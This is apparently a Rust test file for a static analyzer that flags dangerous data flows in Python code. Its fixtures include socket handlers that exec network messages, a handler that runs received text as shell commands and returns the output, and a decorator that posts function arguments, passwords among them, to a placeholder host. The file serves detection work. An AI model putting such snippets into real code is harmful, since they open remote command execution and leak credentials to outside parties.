//! Claims about who runs what was handed over: handlers of connections, wrappers, threads.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::events_of;
use venin_model::{Argument, Event, Family, OriginKind, Role};

fn comes_from(event: &Event, role: Role, kind: OriginKind) -> bool {
    let carries = |argument: &Argument| argument.role == role && argument.origins.kinds.contains(kind);
    event.arguments.iter().any(carries)
}

fn executes_what_is_received(source: &str) -> bool {
    let events = events_of(source);
    let mut executed = events.iter().filter(|event| event.class.family == Family::Cc);
    executed.any(|event| comes_from(event, Role::Code, OriginKind::Network))
}

#[test]
fn a_handler_is_given_what_its_connection_receives() {
    for source in [
        "import websocket\ndef f(c, m):\n    exec(m)\nwebsocket.WebSocketApp('wss://a.invalid', on_message=f).run_forever()",
        "import websocket\nc = websocket.WebSocketApp('wss://a.invalid')\nc.on_message = lambda c, m: exec(m)\nc.run_forever()",
        "import socketio\nc = socketio.Client()\nc.on('x', lambda m: exec(m))\nc.connect('https://a.invalid')",
        "import socketio\nc = socketio.Client()\n@c.event\ndef f(m):\n    exec(m)\nc.connect('https://a.invalid')",
    ] {
        assert!(executes_what_is_received(source), "{source}");
    }
}

#[test]
fn a_handler_of_a_module_runs_when_a_function_connects() {
    for source in [
        "import socketio\nc = socketio.Client()\n@c.on('x')\ndef f(m):\n    exec(m)\ndef main():\n    c.connect('https://a.invalid')",
        "import websocket\nc = websocket.WebSocketApp('wss://a.invalid', on_message=lambda c, m: exec(m))\ndef main():\n    c.run_forever()",
    ] {
        assert!(executes_what_is_received(source), "{source}");
    }
    let local = "import socketio\ndef make():\n    c = socketio.Client()\n    c.on('x', lambda m: exec(m))\ndef other():\n    d = socketio.Client()\n    d.connect('https://a.invalid')";
    assert!(!executes_what_is_received(local), "what one function registers is not run by another");
}

#[test]
fn a_handler_answers_over_the_connection_that_it_belongs_to() {
    let source = "import subprocess, websocket\ndef f(c, m):\n    c.send(subprocess.getoutput(m))\nwebsocket.WebSocketApp('wss://a.invalid', on_message=f).run_forever()";
    let answers = |event: &Event| {
        event.class.family == Family::Cr && comes_from(event, Role::Data, OriginKind::Process)
    };
    assert!(events_of(source).iter().any(answers));
}

#[test]
fn a_wrapper_that_takes_anything_is_passed_the_secrets_of_what_it_stands_for() {
    let source = |wrapped: &str| {
        format!(
            "import functools, requests\ndef traced(f):\n    @functools.wraps(f)\n    def inner(*args, **kw):\n        requests.post('https://a.invalid', json=args)\n        return f(*args, **kw)\n    return inner\n{wrapped}"
        )
    };
    let sends_secret = |source: &str| {
        events_of(source).iter().any(|event| comes_from(event, Role::Data, OriginKind::Secret))
    };
    assert!(sends_secret(&source("@traced\ndef a(text): pass\n@traced\ndef b(name, password): pass\n")));
    assert!(!sends_secret(&source("@traced\ndef a(text): pass\n")));
}

#[test]
fn what_a_thread_calls_gives_nobody_an_answer() {
    let is_unused = |source: &str| {
        let events = events_of(&format!("import requests\nfrom threading import Thread\n{source}\n"));
        let mut posts = events.iter().filter(|event| &*event.name == "requests.post");
        posts.any(|event| event.is_unused)
    };
    assert!(is_unused("Thread(target=requests.post, args=('https://a.invalid', 'x')).start()"));
    assert!(is_unused("Thread(target=lambda: requests.post('https://a.invalid')).start()"));
    assert!(!is_unused("def f():\n    return requests.post('https://a.invalid').text\nprint(f())"));
}
